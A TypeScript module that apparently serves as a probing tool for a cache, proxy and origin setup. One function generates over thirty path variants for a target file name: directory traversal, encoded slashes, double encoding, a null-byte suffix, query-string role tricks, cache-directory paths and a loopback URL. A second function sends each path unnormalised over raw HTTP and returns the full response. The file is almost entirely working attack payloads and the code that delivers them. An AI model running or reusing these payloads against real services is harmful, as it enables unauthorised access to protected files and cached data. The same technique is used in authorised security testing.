import { request } from "node:http";

/** Ways to spell a path that a cache, a proxy or an origin could read as the same. */
export function spellings(name: string): readonly string[] {
  const encoded = `%${name.charCodeAt(0).toString(16)}${name.slice(1)}`;
  const dot = name.replace(".", "%2E");
  return [
    `/${name}`,
    `//${name}`,
    `///${name}`,
    `/./${name}`,
    `/x/../${name}`,
    `/../${name}`,
    `/x/%2e%2e/${name}`,
    `/x/..%2F${name}`,
    `/%2F${name}`,
    `/%2f%2f${name}`,
    `/${encoded}`,
    `/${encodeURIComponent(encoded)}`,
    `/${dot}`,
    `/${dot.toLowerCase()}`,
    `/${name.toUpperCase()}`,
    `/${name}?token=x`,
    `/${name}?ttl_seconds=3600&role=origin`,
    `/${name}%3Ftoken=x`,
    `/${name}/`,
    `/${name}/.`,
    `/${name}%2F`,
    `/${name};x=1`,
    `/${name}%00`,
    `/${name}%20`,
    `/${name}.`,
    `/${name}/x.ts`,
    `/x.ts/../${name}`,
    `/x.ts/..%2F${name}`,
    `/x.ts%2F..%2F${name}`,
    `/playlist_x.m3u8/../${name}`,
    `/playlist_x%2F..%2F${name}`,
    `/playlist_/../${name}`,
    `/cache/live-origin/${name}`,
    `/..%2F..%2Fcache%2Flive-origin%2F${name}`,
    `/?key=${name}`,
    `/%3Fkey=${name}`,
    `http://127.0.0.1/${name}`,
  ];
}

/** Sends a request with the path as it is spelled, which fetch would tidy up. All of the answer, as text. */
export function rawAnswer(host: string, path: string, method = "GET"): Promise<string> {
  const [hostname, port] = host.split(":");
  return new Promise((done) => {
    const callOptions = request({ hostname, port, path, method }, (answer) => {
      const chunks: Buffer[] = [];
      answer.on("data", (chunk: Buffer) => chunks.push(chunk));
      answer.on("end", () => {
        const body = Buffer.concat(chunks).toString("latin1");
        done(`${answer.statusCode} ${answer.rawHeaders.join("\n")}\n\n${body}`);
      });
    });
    callOptions.on("error", (error) => done(`no answer: ${error.message}`));
    callOptions.end();
  });
}
